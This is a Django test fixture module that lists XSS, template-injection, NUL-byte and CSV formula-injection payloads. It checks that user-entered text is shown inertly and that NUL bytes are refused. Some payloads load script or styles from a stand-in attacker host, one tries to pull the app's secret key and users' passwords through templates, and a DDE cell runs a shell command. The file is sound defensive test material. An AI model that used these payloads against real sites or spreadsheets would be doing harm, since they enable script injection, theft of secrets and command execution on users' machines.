"""Text a user might type to attack another user, for tests/test_xss.py.

Each payload is plain text to the app: whatever page shows it must show it as text. The list
covers script tags, event handlers, javascript:/data: URLs, attribute breakouts with both quote
marks, encoded and look-alike variants, template injection and CSS tricks.
"""

from contextlib import contextmanager

from django.db import DataError, connection

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-src": "<script src=//evil.example/x.js></script>",
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-in-svg": "<svg><script>alert(1)</script></svg>",
    "close-textarea": "</textarea><script>alert(1)</script>",
    "close-title": "</title><script>alert(1)</script>",
    "close-script": "</script><script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-mixed-case": "<IMG SRC=x OnErRoR=alert(1)>",
    "svg-onload": "<svg onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "href-javascript": '<a href="javascript:alert(1)">click</a>',
    "href-javascript-entities": '<a href="&#106;avascript:alert(1)">click</a>',
    "href-javascript-space": '<a href=" javascript:alert(1)">click</a>',
    "bare-javascript-url": "javascript:alert(1)",
    "bare-javascript-mixed-case": "JaVaScRiPt:alert(document.cookie)",
    "double-quote-breakout": '" onmouseover="alert(1)',
    "single-quote-breakout": "' onmouseover='alert(1)",
    "double-quote-tag-breakout": '"><script>alert(1)</script>',
    "single-quote-tag-breakout": "'><img src=x onerror=alert(1)>",
    "autofocus-breakout": '" autofocus onfocus="alert(1)" x="',
    "unquoted-attribute-breakout": "x onmouseover=alert(1) autofocus onfocus=alert(1)",
    "unquoted-attribute-slash": "x/onerror=alert(1)",
    "js-string-breakout": '\\"-alert(1)-\\"\';alert(1)//',
    "js-unicode-escapes": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "html-entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric-entities": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "url-encoded": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "fullwidth-brackets": "＜script＞alert(1)＜/script＞",
    "line-separators": "\u2028\u2029<script>alert(1)</script>",
    "template-expression": "{{ 7*7 }}",
    "template-secret": "{{ settings.SECRET_KEY }}{{ request.user.password }}",
    "template-tag": "{% debug %}{% load static %}",
    "other-template-syntaxes": "${7*7} #{7*7} <%= 7*7 %>",
    "css-expression": "<style>body{background:expression(alert(1))}</style>",
    "css-url-javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "data-uri": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed-svg": '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    "math-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment-breakout": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "base-href": '<base href="//evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "form-action": '<form action="javascript:alert(1)"><button>Go</button></form>',
    "link-stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "template-element": "<template><script>alert(1)</script></template>",
}

# Text that PostgreSQL cannot store: forms must refuse it with a message, never a server error.
NUL_PAYLOADS = {
    "nul-inside-tag": "<scr\x00ipt>alert(1)</script>",
    "nul-first": "\x00<script>alert(1)</script>",
    "nul-in-url": "java\x00script:alert(1)",
}

# Cells a spreadsheet would run as formulas when a teacher opens the CSV export.
CSV_FORMULAS = {
    "equals-hyperlink": '=HYPERLINK("http://evil.example","Click")',
    "equals-dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab-equals": "\t=1+1",
    "cr-equals": "\r=1+1",
}


def _has_nul(value) -> bool:
    if isinstance(value, str):
        return "\x00" in value
    if isinstance(value, dict):
        return any(_has_nul(v) for v in value.values())
    if isinstance(value, list | tuple):
        return any(_has_nul(v) for v in value)
    return False


@contextmanager
def refusing_nul_like_postgresql():
    """Make the test database refuse NUL characters as PostgreSQL does, so a NUL that reaches
    a query fails here (as a server error) rather than only in production."""

    def refuse(execute, sql, params, many, context):
        if "\x00" in sql or _has_nul(params):
            raise DataError("PostgreSQL text fields cannot contain NUL (0x00) bytes")
        return execute(sql, params, many, context)

    with connection.execute_wrapper(refuse):
        yield
